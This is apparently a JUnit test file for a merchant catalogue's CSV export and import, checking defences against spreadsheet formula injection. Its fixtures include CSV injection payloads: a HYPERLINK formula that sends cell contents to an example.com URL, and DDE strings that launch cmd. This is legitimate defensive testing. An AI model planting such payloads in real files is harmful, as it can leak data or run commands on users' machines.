package com.merchantdesk.catalog.csv;

import static com.merchantdesk.catalog.csv.CsvFixtures.catalogue;
import static com.merchantdesk.catalog.csv.CsvFixtures.withHeader;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import com.merchantdesk.AppContext;
import com.merchantdesk.catalog.ProductInput.SkuInput;
import com.merchantdesk.catalog.ProductInput;
import com.merchantdesk.kernel.csv.SpreadsheetSafeText;
import com.merchantdesk.kernel.csv.SpreadsheetSafeTextTest;
import com.merchantdesk.store.DataDirectory;
import com.merchantdesk.testsupport.EnglishMessages;
import java.io.IOException;
import java.io.Reader;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.Currency;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/**
 * Spreadsheet formula injection: what the products export writes for text that a spreadsheet app would run,
 * that an import of the export gives back the same text, and that an import notes formula-looking cells.
 */
@ExtendWith(EnglishMessages.class)
class SpreadsheetSafeCsvTest {

    private static final Currency USD = Currency.getInstance("USD");
    private static final String HYPERLINK = "=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")";
    private static final String DDE = "+cmd|' /C calc'!A0";
    private static final String MINUS = "-2+3+cmd|' /C calc'!A0";
    private static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";

    @TempDir Path temp;
    private AppContext app;

    @BeforeEach
    void open() {
        app = AppContext.open(new DataDirectory(temp.resolve("data")), Clock.systemUTC());
    }

    @AfterEach
    void close() {
        app.close();
    }

    private static ProductInput product(String title, String description, String category, List<String> optionNames,
                                        SkuInput... skus) {
        return new ProductInput(null, title, description, category, "active", optionNames, List.of(skus), List.of(), null);
    }

    private static SkuInput sku(String code, String barcode, String price, String... optionValues) {
        return new SkuInput(null, code, List.of(optionValues), barcode, price, "", "", "", "0");
    }

    /** Products whose text starts with every lead character the catalogue can hold, and with quotes. */
    private void saveFormulaLikeProducts() {
        app.catalog().save(product(HYPERLINK, DDE, MINUS, List.of(AT, "Power"),
                sku("=SKU-1", "@CODE-1", "19.90", "+cmd", "-2.50"),
                sku("+SKU-2", "", "21.00", "@x", "+1.75")), USD);
        app.catalog().save(product("'=already quoted", "''+two quotes\nsecond line", "'plain quote", List.of(),
                sku("'-12.50", "-123", "5.00")), USD);
        app.catalog().save(product("-12.50", "- Soft linen\n- Machine washable", "Apparel", List.of("Size"),
                sku("PLAIN-1", "", "7.00", "-0.5")), USD);
    }

    /** The exported file's data rows as maps from header to cell, exactly as a spreadsheet app reads them. */
    private static List<Map<String, String>> cells(Path file) throws IOException {
        List<Map<String, String>> rows = new ArrayList<>();
        try (Reader in = CsvFileReader.withoutBom(Files.newBufferedReader(file, StandardCharsets.UTF_8));
             CSVParser parser = CSVParser.parse(in, CsvFileReader.FORMAT)) {
            List<CSVRecord> records = parser.getRecords();
            List<String> header = records.get(0).toList();
            for (CSVRecord record : records.subList(1, records.size())) {
                Map<String, String> row = new LinkedHashMap<>();
                for (int i = 0; i < header.size(); i++) {
                    row.put(header.get(i), record.get(i));
                }
                rows.add(row);
            }
        }
        return rows;
    }

    private static Map<String, String> rowOf(List<Map<String, String>> rows, String skuCell) {
        return rows.stream().filter(r -> r.get("sku").equals(skuCell)).findFirst().orElseThrow();
    }

    @Test
    void exportPutsAQuoteBeforeEveryCellThatStartsWithALeadCharacter() throws IOException {
        saveFormulaLikeProducts();
        Path exported = temp.resolve("export.csv");

        new ProductCsvExporter(app.database()).exportFile(exported);

        List<Map<String, String>> rows = cells(exported);
        Map<String, String> first = rowOf(rows, "'=SKU-1");
        assertThat(first).containsEntry("handle", "'=SKU-1").containsEntry("title", "'" + HYPERLINK)
                .containsEntry("description", "'" + DDE).containsEntry("category", "'" + MINUS)
                .containsEntry("option1_name", "'" + AT).containsEntry("option1_value", "'+cmd")
                .containsEntry("barcode", "'@CODE-1").containsEntry("price", "19.90");
        assertThat(rowOf(rows, "'+SKU-2")).containsEntry("option1_value", "'@x").containsEntry("price", "21.00");
        assertThat(rowOf(rows, "PLAIN-1")).containsEntry("description", "'- Soft linen\n- Machine washable");
        // Nothing a spreadsheet app would run is left in any cell.
        assertThat(rows).allSatisfy(row -> assertThat(row.values())
                .noneMatch(SpreadsheetSafeText::looksLikeFormula));
    }

    @Test
    void plainNumbersInTextAndNumberColumnsStayNumbers() throws IOException {
        saveFormulaLikeProducts();
        Path exported = temp.resolve("export.csv");

        new ProductCsvExporter(app.database()).exportFile(exported);

        List<Map<String, String>> rows = cells(exported);
        assertThat(rowOf(rows, "'+SKU-2")).containsEntry("option2_value", "+1.75");
        assertThat(rowOf(rows, "'=SKU-1")).containsEntry("option2_value", "-2.50");
        assertThat(rowOf(rows, "PLAIN-1")).containsEntry("title", "-12.50").containsEntry("option1_value", "-0.5")
                .containsEntry("price", "7.00").containsEntry("on_hand", "0").containsEntry("reorder_point", "0");
        assertThat(rowOf(rows, "''-12.50")).containsEntry("barcode", "-123").containsEntry("price", "5.00");
    }

    @Test
    void textStartingWithAQuoteGetsOneMoreQuoteOnlyBeforeALeadCharacter() throws IOException {
        saveFormulaLikeProducts();
        Path exported = temp.resolve("export.csv");

        new ProductCsvExporter(app.database()).exportFile(exported);

        Map<String, String> quoted = rowOf(cells(exported), "''-12.50");
        assertThat(quoted).containsEntry("handle", "''-12.50").containsEntry("title", "''=already quoted")
                .containsEntry("description", "'''+two quotes\nsecond line").containsEntry("category", "'plain quote");
    }

    /** The catalogue strips leading tabs and line breaks, so put them in the database directly. */
    @Test
    void tabAndCarriageReturnAtTheStartAreQuotedToo() throws IOException {
        saveFormulaLikeProducts();
        app.database().write(c -> {
            try (var st = c.createStatement()) {
                return st.executeUpdate("UPDATE product SET description = char(9) || '=1+1', category = char(13) || '=2+2' "
                        + "WHERE title = '-12.50'");
            }
        });
        Path exported = temp.resolve("export.csv");

        new ProductCsvExporter(app.database()).exportFile(exported);

        assertThat(rowOf(cells(exported), "PLAIN-1")).containsEntry("description", "'\t=1+1")
                .containsEntry("category", "'\r=2+2");
    }

    @Test
    void exportThenImportGivesBackEveryTextExactly() throws IOException {
        saveFormulaLikeProducts();
        Path exported = temp.resolve("export.csv");
        new ProductCsvExporter(app.database()).exportFile(exported);

        try (AppContext other = AppContext.open(new DataDirectory(temp.resolve("other")), Clock.systemUTC())) {
            ImportResult imported = new ProductCsvImporter(other.catalog(), other.clock()).importFile(exported, USD);

            assertThat(imported.productsCreated()).isEqualTo(3);
            assertThat(imported.formulaCells()).isEqualTo(CsvWarnings.NONE);
            assertThat(catalogue(other)).isEqualTo(catalogue(app));
            assertThat(other.catalog().findByScan("=SKU-1").orElseThrow().title()).isEqualTo(HYPERLINK);
            assertThat(other.catalog().findByScan("'-12.50").orElseThrow().title()).isEqualTo("'=already quoted");
            Path again = temp.resolve("again.csv");
            new ProductCsvExporter(other.database()).exportFile(again);
            assertThat(Files.readString(again)).isEqualTo(Files.readString(exported));
        }
        ImportResult same = new ProductCsvImporter(app.catalog(), app.clock()).importFile(exported, USD);
        assertThat(same.productsUnchanged()).isEqualTo(3);
    }

    /** Every lead character, tab and carriage return included, through the exporter's CSV format and the reader. */
    @Test
    void everyTextComesBackFromTheFileAsItWasWritten() throws IOException {
        List<String> texts = SpreadsheetSafeTextTest.everything().stream().filter(t -> !t.isEmpty()).toList();
        Path file = temp.resolve("texts.csv");
        try (Writer out = Files.newBufferedWriter(file, StandardCharsets.UTF_8);
             CSVPrinter printer = new CSVPrinter(out, CsvFileReader.FORMAT)) {
            printer.printRecord("handle", "title", "sku", "price");
            for (int i = 0; i < texts.size(); i++) {
                printer.printRecord("h" + i, SpreadsheetSafeText.escape(texts.get(i)), "S-" + i, "1.00");
            }
        }

        CsvFileReader.Result read = new CsvFileReader(new StagedProgress(CsvProgress.NONE),
                new Cancellation(() -> false, "csv.import.cancelled")).read(file);

        assertThat(read.errors()).isEmpty();
        assertThat(read.formulaCells()).isEqualTo(CsvWarnings.NONE);
        assertThat(read.rows()).extracting(row -> row.get(CsvColumn.TITLE)).containsExactlyElementsOf(texts);
    }

    @Test
    void importNotesFormulaLookingCellsByLineAndColumnAndStillImports() {
        Path file = withHeader(temp.resolve("formulas.csv"),
                "a," + "\"" + HYPERLINK.replace("\"", "\"\"") + "\",,,active,,,,,,,A-1,,1.00,,,USD,,,",
                "b,\"" + DDE + "\",@SUM(1),Tools,,Size,-5,,,,,B-1,,2.00,,,USD,,,",
                "c,'=Quoted by us,'-12.50,,,,,,,,,=C-1,,-0,,,USD,,,",
                "d,Plain,- first point,,,,,,,,,D-1,,3.00,,,USD,,,");

        ImportResult result = new ProductCsvImporter(app.catalog(), app.clock()).importFile(file, USD);

        assertThat(result.productsCreated()).isEqualTo(4);
        assertThat(result.formulaCells().count()).isEqualTo(5);
        assertThat(result.formulaCells().first()).extracting(CsvError::line, CsvError::column).containsExactly(
                tuple(2L, "title"), tuple(3L, "title"), tuple(3L, "description"), tuple(4L, "sku"),
                tuple(5L, "description"));
        assertThat(result.formulaCells().first().get(0).describe()).isEqualTo(
                "Line 2, title: Starts with \"=\": a spreadsheet app may run it as a formula. Imported as text; "
                        + "exports write it with a ' in front so it stays text.");
        assertThat(result.formulaCells().first().get(2).message()).startsWith("Starts with \"@\"");
        assertThat(app.catalog().findByScan("A-1").orElseThrow().title()).isEqualTo(HYPERLINK);
        assertThat(app.catalog().findByScan("B-1").orElseThrow().title()).isEqualTo(DDE);
        assertThat(app.catalog().findByScan("=C-1").orElseThrow().title()).isEqualTo("=Quoted by us");
        String quotedId = app.catalog().findByScan("=C-1").orElseThrow().productId();
        // One quote before a lead character is always taken off, even before a number.
        assertThat(app.catalog().find(quotedId).orElseThrow().description()).isEqualTo("-12.50");
    }

    @Test
    void aFileWithAFormulaOnEveryRowKeepsTheFirstWarningsAndCountsThemAll() {
        int rows = CsvWarnings.KEPT + 150;
        String[] lines = new String[rows];
        for (int i = 0; i < rows; i++) {
            lines[i] = "h" + i + ",=T" + i + ",,,,,,,,,,S-" + i + ",,1.00,,,USD,,,";
        }
        Path file = withHeader(temp.resolve("many.csv"), lines);

        ImportResult result = new ProductCsvImporter(app.catalog(), app.clock()).importFile(file, USD);

        assertThat(result.productsCreated()).isEqualTo(rows);
        assertThat(result.formulaCells().count()).isEqualTo(rows);
        assertThat(result.formulaCells().first()).hasSize(CsvWarnings.KEPT);
        assertThat(result.formulaCells().notKept()).isEqualTo(150);
        assertThat(result.formulaCells().first().get(CsvWarnings.KEPT - 1).line()).isEqualTo(CsvWarnings.KEPT + 1);
    }
}
